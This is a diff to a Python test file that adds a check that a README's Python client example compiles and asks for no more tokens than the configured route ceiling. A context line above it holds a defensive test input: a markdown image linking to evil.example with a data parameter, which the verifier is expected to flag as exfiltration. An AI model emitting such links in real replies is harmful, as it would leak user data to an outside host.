@@ -123,3 +123,19 @@ def test_the_readme_contract_loads_and_judges_as_documented(tmp_path):
     bad = verifier.verify('{"reply": "See ![x](https://evil.example/p.png?d=1)", '
                           '"category": "card"}')
     assert {v.check for v in bad.violations} == {"schema", "exfiltration", "urls"}
+
+
+def test_the_readme_python_client_example_fits_the_config_init_writes():
+    import re
+
+    from unwalled.config import parse_config
+
+    readme = (ROOT / "README.md").read_text()
+    block = readme.split("### The same contract in Python", 1)[1] \
+        .split("```python\n", 1)[1].split("```", 1)[0]
+    compile(block, "README.md", "exec")  # it is Python as written
+    route = re.search(r'route="(\w+)"', block).group(1)
+    asked = int(re.search(r"max_tokens=(\d+)", block).group(1))
+    example = yaml.safe_load((ROOT / "src/unwalled/example.yaml").read_text())
+    ceiling = parse_config(example).routes[route].max_tokens
+    assert asked <= ceiling, f"the README asks {asked} tokens of a {ceiling} ceiling"
